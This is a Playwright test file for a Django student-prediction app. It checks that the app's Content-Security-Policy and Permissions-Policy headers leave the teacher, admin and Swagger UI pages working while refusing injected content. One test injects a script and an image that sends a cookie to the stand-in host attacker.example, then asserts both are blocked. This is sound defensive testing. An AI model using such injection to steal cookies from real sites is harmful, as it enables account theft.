"""Issue 18, attack 12, in a real browser: under the Content-Security-Policy and Permissions-Policy the teacher pages,
the monitoring page, the admin and Swagger UI load without one refused script, style, image or connection, and
their scripts still work (the batch page's progress, the admin's action bar and its two-box select, Swagger UI's
operations); a script injected into a page is refused."""
from __future__ import annotations

import re
import uuid

import pytest
from django.urls import reverse
from playwright.sync_api import expect

# Every violation the page sees (including those in report-only mode or in frames), written to the console, where
# the `console` listener below collects it together with Chromium's own "Refused to ..." lines.
REPORT_VIOLATIONS = """
document.addEventListener("securitypolicyviolation", (event) => {
  console.error(`CSP violation: ${event.effectiveDirective} blocked ${event.blockedURI || "inline"}`);
});
"""
POLICY_WORDS = re.compile(r"Content Security Policy|CSP violation|Refused to|Permissions[- ]Policy|feature", re.I)


@pytest.fixture
def problems(page):
    """The CSP violations, Permissions-Policy complaints and uncaught script errors of every page `page` opens."""
    found: list[str] = []
    page.add_init_script(REPORT_VIOLATIONS)
    page.on("console", lambda message: found.append(f"{page.url}: {message.text}")
            if message.type in ("error", "warning") and POLICY_WORDS.search(message.text) else None)
    page.on("pageerror", lambda error: found.append(f"{page.url}: uncaught {error}"))
    return found


def visit(page, path: str) -> None:
    response = page.goto(path)
    assert response.status < 400, f"{path}: {response.status}"
    assert "default-src 'self'" in response.headers["content-security-policy"], path
    page.wait_for_load_state("networkidle")


@pytest.fixture
def teaching(make_user, active_version, record):
    """A teacher with a predicted student, and a class upload waiting for a worker (its page polls its progress)."""
    from predictions.models import BatchJob
    from predictions.services import prediction_create, student_create

    teacher = make_user("teacher")
    student = student_create(data={"external_id": "S-1", **record}, teacher=teacher)
    prediction = prediction_create(record=record, source="web", user=teacher, student=student)
    job = BatchJob.objects.create(
        source="web", file_name="class.csv", input_data=b"", input_sha256="0" * 64, rows_total=10, chunk_size=10,
        created_by=teacher, save_students=True,
    )
    return {"student": student, "prediction": prediction, "job": job}


def test_teacher_pages_load_with_no_policy_violation_and_the_progress_script_runs(page, log_in, teaching, problems):
    student, prediction, job = teaching["student"], teaching["prediction"], teaching["job"]
    log_in(page, "teacher")
    for path in (
        "/", "/students/new/", f"/students/{student.pk}/", f"/students/{student.pk}/edit/",
        f"/students/{student.pk}/what-if/", "/predictions/new/", f"/predictions/{prediction.pk}/", "/batches/",
        "/batches/new/", "/accounts/password_change/",
    ):
        visit(page, path)

    # The batch page's script (static/js/batch-progress.js) polls the job's status and writes it into the page.
    job.status, job.rows_done = "running", 4
    job.save(update_fields=["status", "rows_done"])
    visit(page, f"/batches/{job.pk}/")
    expect(page.locator("#batch-progress-text")).to_have_text(re.compile(r"^4 of 10 students done"))
    expect(page.locator("#batch-progress-bar")).to_have_attribute("value", "4")
    assert problems == []


def test_a_script_injected_into_a_page_is_refused(page, problems):
    visit(page, "/accounts/login/")
    page.evaluate("""() => {
        const script = document.createElement("script");
        script.textContent = "window.injected = true";
        document.head.append(script);
        const image = new Image();
        image.src = "https://attacker.example/steal?cookie=1";
        document.body.append(image);
    }""")
    page.wait_for_timeout(300)

    assert page.evaluate("() => window.injected") is None
    assert any("script-src" in problem for problem in problems), problems
    assert any("img-src" in problem for problem in problems), problems


def test_admin_pages_load_with_no_policy_violation_and_their_scripts_work(
    page, log_in, make_user, active_version, small_pipelines, problems
):
    from modelstore import services

    candidate = services.model_version_register(pipelines=small_pipelines, name="candidate")
    root = make_user("root", "superuser")
    log_in(page, "root")
    for path in (
        "/admin/", "/admin/modelstore/modelversion/", reverse("admin:modelstore_modelversion_upload"),
        reverse("admin:modelstore_modelversion_change", args=[candidate.pk]),
        reverse("admin:modelstore_modelversion_activate", args=[candidate.pk]),
        reverse("admin:modelstore_modelversion_challenger", args=[candidate.pk]), "/monitoring/",
    ):
        visit(page, path)

    # The change list's action bar (admin/js/actions.js) counts the rows ticked.
    visit(page, "/admin/auth/user/")
    expect(page.locator(".action-counter")).to_contain_text("0 of 1 selected")
    page.locator("input.action-select").first.check()
    expect(page.locator(".action-counter")).to_contain_text("1 of 1 selected")
    page.locator("select[name=action]").select_option("delete_selected")
    # A user's groups: the two-box selector (admin/js/SelectFilter2.js, with the translations of admin:jsi18n).
    visit(page, reverse("admin:auth_user_change", args=[root.pk]))
    expect(page.locator("#id_groups_from")).to_be_visible()
    expect(page.locator("#id_groups_to")).to_be_visible()
    assert problems == []


def test_swagger_ui_renders_the_operations_with_no_policy_violation(page, problems):
    visit(page, "/api/v1/docs")

    operations = page.locator(".opblock")
    expect(operations.first).to_be_visible()
    assert operations.count() > 10
    page.locator(".opblock-summary").first.click()  # expanding an operation is Swagger UI's own script at work
    expect(page.locator(".opblock-body").first).to_be_visible()
    expect(page.get_by_role("button", name="Try it out").first).to_be_visible()
    assert problems == []


def test_permissions_policy_is_understood_by_the_browser(page, problems):
    visit(page, "/accounts/login/")
    for feature in ("camera", "microphone", "geolocation", "payment", "usb"):
        allowed = page.evaluate("feature => document.featurePolicy.allowsFeature(feature)", feature)
        assert allowed is False, feature
    assert problems == []


def test_an_unknown_batch_page_and_error_pages_carry_the_policy_too(page, log_in, make_user, problems):
    make_user("teacher")
    log_in(page, "teacher")
    response = page.goto(f"/batches/{uuid.uuid4()}/")
    assert response.status == 404
    assert "frame-ancestors 'none'" in response.headers["content-security-policy"]
    assert problems == []
